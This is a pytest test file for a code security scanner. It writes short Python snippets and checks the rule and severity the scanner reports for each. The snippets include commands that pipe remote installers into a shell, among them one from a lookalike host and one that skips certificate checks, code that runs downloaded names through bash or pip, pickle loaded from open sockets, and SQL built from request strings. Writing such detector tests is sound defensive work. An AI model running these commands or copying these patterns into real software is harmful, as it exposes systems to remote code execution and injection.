"""What a rule needs to see besides the call: cookies, a far peer, a secret that is whole."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.probes.source.code.examine import inspect

CORS = (
    "from fastapi import FastAPI\nfrom fastapi.middleware.cors import CORSMiddleware\n"
    "app = FastAPI()\n"
    "app.add_middleware(CORSMiddleware, allow_origins=['*'], allow_credentials=True)\n"
)
COOKIE = "def enter(response):\n    response.set_cookie('session', 'a')\n"
PEER = (
    "import pickle, zmq\ns = zmq.Context().socket(zmq.REP)\ns.bind({})\n"
    "x = pickle.loads(s.recv())\n"
)
MODEL = (
    "from transformers import AutoModel\nm = AutoModel.from_pretrained(n, trust_remote_code=True)\n"
)
TORCH = "import io, torch\ndef get(b):\n    return torch.load({}, weights_only=False)\n"
FLASK = "from flask import Flask\napp = Flask('a')\n"
RECEIVES = "import zmq\ns = zmq.Context().socket(zmq.PULL)\n{}x = s.recv_pyobj()\n"
RUNS = (
    "import requests, subprocess, sys\nname = requests.{}('https://a.net/v').json()['name']\n"
    "subprocess.run({})\n"
)
PIP = "[sys.executable, '-m', 'pip', {}, name]"
UPLOADS = (
    "import os\nfrom flask import request\ndef sent():\n    found = []\n"
    "    for part in request.get_json()['parts']:\n"
    "        found.append(({}, part['data']))\n    return found\n"
    "for name, data in sent():\n    open('up/' + name, 'wb').write(data)\n"
)
TOKEN = "import random\n{}session_id = f'session_{{random.randint(0, 9)}}'\n"
SQL = "from flask import request\nn = request.args['n']\napp.state.{}.execute('x ' + n)\n"
LOG = "import logging, os\nlog = logging.getLogger('a')\n"

CASES = {
    "an installer, as its vendor has it": (
        {"a.py": "import os\nos.system('wget -qO- https://astral.sh/uv/i.sh | sudo -E sh')\n"},
        "piped-to-shell", "medium",
    ),
    "an installer of a host that begins alike": (
        {"a.py": "import os\nos.system('curl -sSf https://astral.sh.shop.net/i.sh | sh')\n"},
        "piped-to-shell", "high",
    ),
    "an installer without the certificate": (
        {"a.py": "import os\nos.system('curl -sSfk https://astral.sh/uv/install.sh | sh')\n"},
        "piped-to-shell", "high",
    ),
    "weights over plain HTTP": (
        {"a.py": "URL = 'http://models.shop.net/a.bin'\n"}, "weights-over-http", "high",
    ),
    "an archive over plain HTTP": (
        {"a.py": "URL = 'http://data.shop.net/a.zip'\n"}, "weights-over-http", "medium",
    ),
    "digests beside it": (
        {"a.py": f"A = {{'url': 'http://models.shop.net/a.bin', 'md5': '{'0a' * 16}'}}\n"},
        "weights-over-http", "medium",
    ),
    "code of a repository": ({"a.py": MODEL}, "trust-remote-code", "high"),
    "code at a full commit": (
        {"a.py": MODEL.replace("True)", f"True, revision='{'0a' * 20}')")}, "trust-remote-code",
        "medium",
    ),
    "code at a branch": (
        {"a.py": MODEL.replace("True)", "True, revision='main')")}, "trust-remote-code", "high",
    ),
    "code of a folder": (
        {"a.py": MODEL.replace("(n,", "('./out/model',")}, "trust-remote-code", "medium",
    ),
    "no cookie is seen": ({"app.py": CORS}, "cors-everybody", "medium"),
    "a cookie in the same file": ({"app.py": CORS + COOKIE}, "cors-everybody", "high"),
    "a cookie in another file": ({"app.py": CORS, "enter.py": COOKIE}, "cors-everybody", "high"),
    "a peer of the same machine": (
        {"a.py": PEER.format("'tcp://127.0.0.1:5555'")}, "pickle-untrusted", "medium",
    ),
    "a peer anywhere": ({"a.py": PEER.format("'tcp://*:5555'")}, "pickle-untrusted", "critical"),
    "a host that is not known": (
        {"a.py": PEER.format("f'tcp://{H}:1'") + "t = 'tcp://localhost:1'\n"},
        "pickle-untrusted", "critical",
    ),
    "a secret": (
        {"a.py": f"{LOG}key = os.environ['SHOP_API_KEY']\nlog.info('key %s', key)\n"},
        "secret-logged", "high",
    ),
    "something out of what a function gives": (
        {"a.py": f"{LOG}def load():\n    return {{'key': os.environ['SHOP_API_KEY'], 'n': n()}}\n"
         "settings = load()\nlog.info('n %s', settings[which])\n"},
        "secret-logged", "medium",
    ),
    "the path of a file with secrets": (
        {"a.py": f"{LOG}p = os.environ['CLIENT_SECRETS']\nlog.error('not found: %s', p)\n"},
        "secret-logged", "",
    ),
    "remote code": ({"a.py": MODEL}, "trust-remote-code", "high"),
    "remote code in tests": ({"autotest/tools/a.py": MODEL}, "trust-remote-code", "low"),
    "a file": ({"a.py": TORCH.format("b")}, "torch-load", "high"),
    "bytes of anywhere": ({"a.py": TORCH.format("io.BytesIO(b)")}, "torch-load", "medium"),
    "a debugger for everybody": (
        {"a.py": f"{FLASK}app.run(host='0.0.0.0', debug=True)\n"}, "debug-server", "high",
    ),
    "a debugger on this machine": (
        {"a.py": f"{FLASK}app.run(debug=True, port=8000)\n"}, "debug-server", "medium",
    ),
    "messages of everybody": (
        {"a.py": RECEIVES.format("s.bind('tcp://*:5555')\n")}, "recv-pyobj", "high",
    ),
    "messages of this machine": (
        {"a.py": RECEIVES.format("s.bind('tcp://127.0.0.1:5555')\n")}, "recv-pyobj", "medium",
    ),
    "messages of a socket somewhere": ({"a.py": RECEIVES.format("")}, "recv-pyobj", "medium"),
    "a demonstration": ({"demos/a.py": MODEL}, "trust-remote-code", "medium"),
    "a cookbook": ({"cookbook/a.py": MODEL}, "trust-remote-code", "low"),
    "a program that is downloaded": (
        {"a.py": RUNS.format("get", "['bash', '-c', name]")},
        "downloaded-code-executed", "critical",
    ),
    "an answer of a service": (
        {"a.py": RUNS.format("post", "['bash', '-c', name]")},
        "downloaded-code-executed", "medium",
    ),
    "a package that is installed": (
        {"a.py": RUNS.format("get", PIP.format("'install'"))},
        "downloaded-code-executed", "critical",
    ),
    "a package that is only fetched": (
        {"a.py": RUNS.format("get", PIP.format("'download'"))}, "downloaded-code-executed", "",
    ),
    "a database": ({"a.py": SQL.format("db")}, "sql-injection", "critical"),
    "names that were made safe": (
        {"a.py": UPLOADS.format("os.path.basename(part['name'])")}, "path-untrusted", "medium",
    ),
    "names as they came": ({"a.py": UPLOADS.format("part['name']")}, "path-untrusted", "high"),
    "a session of a web service": (
        {"a.py": TOKEN.format("import flask\n")}, "predictable-token", "high",
    ),
    "a session of a measurement": ({"a.py": TOKEN.format("")}, "predictable-token", "medium"),
    "a setting that validates": (
        {"a.py": "import ssl\nclass A:\n    def send(self):\n        if self.validate_certs:\n"
         "            c = ssl.create_default_context()\n        else:\n"
         "            c = ssl._create_unverified_context()\n"},
        "tls-context-unverified", "medium",
    ),
    "something that runs tasks": ({"a.py": SQL.format("job_executor")}, "sql-injection", ""),
}  # fmt: skip


@pytest.mark.parametrize("case", CASES)
def test_what_a_rule_needs_to_see(tmp_path: Path, case: str) -> None:
    files, rule, severity = CASES[case]
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    told = [one for one in inspect(tmp_path)[0] if one.rule == rule]
    assert [one.severity for one in told] == ([severity] if severity else [])
